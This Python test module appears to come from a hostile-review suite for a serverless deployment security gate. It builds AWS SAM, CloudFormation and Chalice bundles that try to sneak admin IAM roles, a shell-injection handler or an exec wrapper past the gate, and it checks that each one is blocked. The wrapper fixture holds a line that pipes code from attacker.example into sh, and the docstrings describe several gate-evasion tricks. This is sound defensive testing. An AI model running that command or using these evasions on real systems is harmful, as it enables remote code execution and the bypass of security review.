"""A thirteenth hostile review of `gate check`: ways around the fixes of 6ebb429/290979b
(files the IaC makes the deploy read are followed or refused, `AWS::Include` inlined),
b745e90 (Chalice functions named as their decorators name them, a blueprint's
`name_prefix`), and around what the gate takes for a template, for a URL and for a
function's settings.

Each attack was a confirmed problem: the test says what the gate must do, and a
baseline beside it shows the same bundle without the trick blocks (or is refused). Each
attack was also run by hand with the default policy (checkov on): exit 0 all the same,
no warning but `advisories-stale` unless one is named. What the gate did, and how each
class was fixed:

1. A template is read only when its bytes hold a marker (`AWSTemplateFormatVersion`,
   `AWS::Serverless`, `AWS::Lambda::Function`) or its `Resources` hold an entry with an
   `AWS::` `Type` (gate.bundle.discovery.read `_templates_unmarked`/`_declares_aws_resources`):
   a template whose `Resources` is only an `Fn::Transform` of `AWS::Include` is neither,
   so its snippet is never inlined or judged. Also by hand: the same as the nested
   template of a marked root (`TemplateURL: ./stacks/child.yaml`): exit 0. Now
   `AWS::Include` is a marker, and a `Resources` holding a transform makes a template.
2. Any `scheme://` value is taken for a URL, never the bundle's (gate.bundle.discovery.
   references `_local`, gate.bundle.discovery.declared `local_path`); `sam package/deploy` and
   `aws cloudformation package` pass over only an `s3://bucket/key` (samcli
   `is_s3_protocol_url`) and take anything else for a local path: `conf://x.json` is the
   file `conf:/x.json`. Also by hand: a nested stack `Location: 'conf://nested.txt'`
   (exit 0 where `./conf:/nested.txt` is refused), `CodeUri: 'app://src/'` with a handler
   whose parameters are not named `event, context` (GATE-SLS-006 lost), and Terraform's
   `filename = "app://fn.zip"` (exit 0 where `app:/fn.zip` blocks). Now only
   `s3://bucket/key` and `http(s)://` are remote (gate.bundle.discovery.declared `is_remote`).
3. Chalice functions are found only as `@NAME.method(...)` decorators whose NAME the
   same module assigns a `Chalice(...)`/`Blueprint(...)`, and a blueprint's prefix only
   as the keyword `name_prefix` beside a positional blueprint (gate.bundle.discovery.chalice
   `_registrations`, `_name_prefixes`); a function found under another name, or not at
   all, is judged with the generated policy or not judged. Now apps and blueprints are
   followed through imports and second names to where they are made, a prefix is read
   by keyword or position, and a decorator applied by a call is refused.
4. A Chalice function's policy is judged for the stages the config names only
   (gate.rules.iam.roles_chalice `chalice_grants`); `chalice deploy --stage prod`
   with no `prod` entry deploys the top-level settings. Now any other stage is judged
   too, with every `policy-*.json` when no `iam_policy_file` names one.
5. A Chalice function's environment is never read (gate.rules.iac
   `_function_views` skips `chalice`), so GATE-IAC-018 never sees an exec wrapper that
   `.chalice/config.json` sets. Now its `environment_variables`, at every level, are
   read for the environment rules (gate.rules.iac.chalice).

Also tried, and the gate held: `!Transform` (short form) as the whole `Resources` of a
marked template (inlined: GATE-IAC-001); pip-audit not started when nothing is pinned
(the unpinned findings and manifest problems are still reported, and a bundle with
pins still goes through the service).
"""

from __future__ import annotations

import io
import textwrap
import zipfile
from pathlib import Path

from tests.hostile.conftest import (
    Layout,
    Sandbox,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review import GOOD_HANDLER
from tests.hostile.test_review4 import environment
from tests.hostile.test_review11 import ADMIN_JSON, CHALICE_APP, CREATED, SLS_ADMIN_RESOURCES
from tests.hostile.test_review12 import ADMIN_JSON_POLICIES, SAM_INCLUDE
from tests.hostile.test_staging import BAD, TEMPLATE

# --- 1. a template whose every resource an AWS::Include brings -------------------------

# A function whose role may do anything, in a snippet CloudFormation inlines as the whole
# `Resources` section (`Fn::Transform` is valid at the top of `Resources`; `sam deploy`
# and `aws cloudformation package` upload a local `Location`). Snippets take no YAML
# short forms, so the long ones are written.
RESOURCES_SNIPPET = """\
Orders:
  Type: AWS::Lambda::Function
  Properties:
    Code:
      ZipFile: |
        def handler(event, context):
            return {'ok': True}
    Handler: index.handler
    Runtime: python3.12
    Role:
      Fn::GetAtt: [AdminRole, Arn]
""" + textwrap.dedent(SLS_ADMIN_RESOURCES.removeprefix("Resources:\n"))
INCLUDED_RESOURCES = """\
{version}Description: orders
Resources:
  Fn::Transform:
    Name: AWS::Include
    Parameters:
      Location: ./resources.yaml
"""


def included_resources(sandbox: Sandbox, version: str) -> None:
    sandbox.write("template.yaml", INCLUDED_RESOURCES.format(version=version))
    sandbox.write("resources.yaml", RESOURCES_SNIPPET)


def resources_an_include_brings(sandbox: Sandbox) -> None:
    """The baseline: with `AWSTemplateFormatVersion`, the template is read, the snippet
    inlined as its `Resources`, and the admin role judged: GATE-IAC-001."""
    included_resources(sandbox, "AWSTemplateFormatVersion: '2010-09-09'\n")


def a_template_whose_resources_an_include_brings_is_read(sandbox: Sandbox) -> None:
    """The same template without `AWSTemplateFormatVersion` (optional to CloudFormation):
    no marker in its bytes and no `Type` in its `Resources`, so the gate never reads it
    as IaC, never inlines the snippet (itself no template: no `Resources`), and the run
    passes (exit 0, 0 findings) with the admin role deployed."""
    included_resources(sandbox, "")


# --- 2. a local path written like a URL ------------------------------------------------


def include(sandbox: Sandbox, location: str) -> None:
    """An admin statement in `conf:/policies.json`, included into the function's
    `Policies` through `location`."""
    sandbox.write("template.yaml", SAM_INCLUDE.format(location=location))
    sandbox.write("conf:/policies.json", ADMIN_JSON_POLICIES)
    sandbox.write("src/app.py", GOOD_HANDLER)


def included_snippet_in_a_colon_folder(sandbox: Sandbox) -> None:
    """The baseline: `Location: ./conf:/policies.json` is inlined: GATE-IAC-001."""
    include(sandbox, "./conf:/policies.json")


def an_include_written_like_a_url_is_read(sandbox: Sandbox) -> None:
    """`Location: 'conf://policies.json'`: samcli's include handler passes over only an
    `s3://` URL and uploads `os.path.join(template_dir, 'conf://policies.json')`, the
    same file as in the baseline; the gate neither inlines nor refuses it, judges the
    bare `Fn::Transform` as a policy granting nothing, and the run passes (exit 0)."""
    include(sandbox, "conf://policies.json")


def zipped(name: str, text: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, text)
    return buffer.getvalue()


def code_uri(sandbox: Sandbox, uri: str) -> None:
    """A function deploying `app:/fn.zip`, whose handler passes event data to a shell."""
    sandbox.write("template.yaml", TEMPLATE.format(code=f"'{uri}'", handler="app.handler"))
    sandbox.write("app:/fn.zip", zipped("app.py", BAD))


def zip_in_a_colon_folder(sandbox: Sandbox) -> None:
    """The baseline: `CodeUri: app:/fn.zip` is unpacked and scanned: GATE-SLS-001."""
    code_uri(sandbox, "app:/fn.zip")


def a_code_uri_written_like_a_url_is_judged(sandbox: Sandbox) -> None:
    """`CodeUri: app://fn.zip`: `sam deploy` uploads `make_abs_path(dir, 'app://fn.zip')`,
    the same zip; the gate warns `function-code-elsewhere` and `zip-not-deployed`, counts
    the zip not analysed, and the run passes (exit 0) with the shell injection unread."""
    code_uri(sandbox, "app://fn.zip")


# --- 3. Chalice functions the gate does not find, or finds under another name -----------

# The blueprint's `resize`, registered with the prefix `jobs_`: its entry in the stage's
# `lambda_functions` turns the generated policy off for `policy-admin.json`.
CHALICE_CONFIG = (
    '{"version": "2.0", "app_name": "orders", "stages": {"dev": {'
    '"api_gateway_stage": "api", "lambda_functions": {"jobs_resize": '
    '{"autogen_policy": false, "iam_policy_file": "policy-admin.json"}}}}}\n'
)
HANDLE = "def handle(event, context=None):\n    return {'ok': True}\n"
CREATE_BLUEPRINT = "from chalice import Blueprint\n\nbp = Blueprint(__name__)\n"


def decorated(owner: str) -> str:
    return f"\n\n@{owner}.lambda_function(name='resize')\n{HANDLE}"


BLUEPRINT_APP = (
    "from chalice import Chalice\n\nimport chalicelib.jobs  # noqa: F401\n"
    "from chalicelib.jobs import bp\n\n"
    "app = Chalice(app_name='orders')\napp.register_blueprint({arguments})\n"
)
KEYWORD = "bp, name_prefix='jobs_'"
JOBS = CREATE_BLUEPRINT + decorated("bp")
# What each trick changes: the arguments of `register_blueprint`, and chalicelib's files.
REGISTRATIONS: dict[str, tuple[str, dict[str, str]]] = {
    # `register_blueprint(self, blueprint, name_prefix=None, url_prefix=None)`.
    "prefix-by-position": ("bp, 'jobs_'", {"jobs.py": JOBS}),
    "blueprint-by-keyword": ("blueprint=bp, name_prefix='jobs_'", {"jobs.py": JOBS}),
    # The blueprint under a second name.
    "alias": (KEYWORD, {"jobs.py": CREATE_BLUEPRINT + "jobs = bp\n" + decorated("jobs")}),
    # The decorator applied by a call, as `@` does.
    "call": (
        KEYWORD,
        {
            "jobs.py": f"{CREATE_BLUEPRINT}\n\n{HANDLE}\n\n"
            "handle = bp.lambda_function(name='resize')(handle)\n"
        },
    ),
    # The blueprint made in one module of chalicelib and decorated in another.
    "imported": (
        KEYWORD,
        {"bp.py": CREATE_BLUEPRINT, "jobs.py": "from chalicelib.bp import bp\n" + decorated("bp")},
    ),
}


def blueprint(sandbox: Sandbox, arguments: str, files: dict[str, str]) -> None:
    sandbox.write("app.py", BLUEPRINT_APP.format(arguments=arguments))
    sandbox.write("chalicelib/__init__.py", "")
    for name, text in files.items():
        sandbox.write(f"chalicelib/{name}", text)
    sandbox.write(".chalice/config.json", CHALICE_CONFIG)
    sandbox.write(".chalice/policy-admin.json", ADMIN_JSON)


def blueprint_function_with_its_own_policy(sandbox: Sandbox) -> None:
    """The baseline: `@bp.lambda_function(name='resize')` in `chalicelib/jobs.py`,
    `app.register_blueprint(bp, name_prefix='jobs_')`: `jobs_resize` is found and its
    entry's policy judged: GATE-IAC-001."""
    blueprint(sandbox, KEYWORD, {"jobs.py": JOBS})


def test_a_chalice_function_is_found_as_chalice_registers_it(tmp_path: Path) -> None:
    """`register_blueprint(bp, 'jobs_')` or `(blueprint=bp, name_prefix='jobs_')`; `jobs
    = bp` and `@jobs.lambda_function(...)`; `handle = bp.lambda_function(...)(handle)`;
    or `bp` made in `chalicelib/bp.py` and decorated in `chalicelib/jobs.py`: Chalice
    deploys `jobs_resize` with `policy-admin.json` as in the baseline; the gate finds
    `resize` (the generated policy) or no function at all, and the run passes (exit 0)."""

    def layout(trick: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            arguments, files = REGISTRATIONS[trick]
            blueprint(sandbox, arguments, files)

        return written

    each_blocked_or_refused(tmp_path, {trick: layout(trick) for trick in sorted(REGISTRATIONS)})


# --- 4. a Chalice stage the config does not name ----------------------------------------

STAGED_CONFIG = (
    '{{"version": "2.0", "app_name": "orders", "autogen_policy": false, '
    '"iam_policy_file": "policy-admin.json", '
    '"stages": {{"dev": {{"api_gateway_stage": "api"{stage}}}}}}}\n'
)


def staged(sandbox: Sandbox, stage: str) -> None:
    sandbox.write("app.py", CHALICE_APP.format(create=CREATED))
    sandbox.write(".chalice/config.json", STAGED_CONFIG.format(stage=stage))
    sandbox.write(".chalice/policy-admin.json", ADMIN_JSON)


def chalice_policy_file_at_the_top(sandbox: Sandbox) -> None:
    """The baseline: `autogen_policy: false` and `iam_policy_file` at the top level:
    GATE-IAC-001."""
    staged(sandbox, "")


def a_chalice_stage_the_config_does_not_name_is_judged(sandbox: Sandbox) -> None:
    """The same, with `"autogen_policy": true` in `dev`: `chalice deploy --stage prod`
    finds no `prod` entry (`stages.get(stage, {})`) and deploys the top level's
    `policy-admin.json`; the gate judges `dev` alone (generated) and passes (exit 0)."""
    staged(sandbox, ', "autogen_policy": true')


# --- 5. a Chalice function's environment ------------------------------------------------

# A program the Lambda runtime starts before the handler, with the function's role.
WRAPPER = '#!/bin/sh\ncurl -s https://attacker.example/p | sh\nexec "$@"\n'
WRAPPER_PATH = "/var/task/chalicelib/wrapper.sh"
CHALICE_ENVIRONMENT = (
    '{"version": "2.0", "app_name": "orders", "environment_variables": '
    f'{{"AWS_LAMBDA_EXEC_WRAPPER": "{WRAPPER_PATH}"}}, '
    '"stages": {"dev": {"api_gateway_stage": "api"}}}\n'
)


def exec_wrapper_a_template_sets(sandbox: Sandbox) -> None:
    """The baseline: a SAM function whose environment makes the runtime start
    `chalicelib/wrapper.sh`, a shell script in its code: GATE-IAC-018."""
    sandbox.write("template.yaml", environment({"AWS_LAMBDA_EXEC_WRAPPER": WRAPPER_PATH}))
    sandbox.write("src/app.py", GOOD_HANDLER)
    sandbox.write("src/chalicelib/__init__.py", "")
    sandbox.write("src/chalicelib/wrapper.sh", WRAPPER).chmod(0o755)


def an_exec_wrapper_a_chalice_config_sets(sandbox: Sandbox) -> None:
    """The same wrapper set by `.chalice/config.json`'s `environment_variables` (Chalice
    deploys `chalicelib/` with its modes): the gate counts the script not analysed,
    never reads the environment, and the run passes (exit 0)."""
    sandbox.write("app.py", CHALICE_APP.format(create=CREATED))
    sandbox.write(".chalice/config.json", CHALICE_ENVIRONMENT)
    sandbox.write("chalicelib/__init__.py", "")
    sandbox.write("chalicelib/wrapper.sh", WRAPPER).chmod(0o755)


# --- the baselines, in one run ------------------------------------------------------------

# name: (the bundle without the trick, the rule its blocking finding names)
BASELINES: dict[str, tuple[Layout, str]] = {
    "1-include-as-resources": (resources_an_include_brings, "GATE-IAC-001"),
    "2-include-in-a-colon-folder": (included_snippet_in_a_colon_folder, "GATE-IAC-001"),
    "2-zip-in-a-colon-folder": (zip_in_a_colon_folder, "GATE-SLS-001"),
    "3-blueprint-function-policy": (blueprint_function_with_its_own_policy, "GATE-IAC-001"),
    "4-chalice-policy-file-at-the-top": (chalice_policy_file_at_the_top, "GATE-IAC-001"),
    "5-template-exec-wrapper": (exec_wrapper_a_template_sets, "GATE-IAC-018"),
}


def test_the_baselines_block(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: each blocks, its finding naming its
    rule."""
    each_blocks(tmp_path, BASELINES)


def test_each_trick_is_blocked_or_refused(tmp_path: Path) -> None:
    """The single tricks above, in one run: none of them passes."""
    each_blocked_or_refused(
        tmp_path,
        {
            "template-whose-resources-an-include-brings": (
                a_template_whose_resources_an_include_brings_is_read
            ),
            "include-written-like-a-url": an_include_written_like_a_url_is_read,
            "code-uri-written-like-a-url": a_code_uri_written_like_a_url_is_judged,
            "chalice-stage-the-config-does-not-name": (
                a_chalice_stage_the_config_does_not_name_is_judged
            ),
            "exec-wrapper-a-chalice-config-sets": an_exec_wrapper_a_chalice_config_sets,
        },
    )
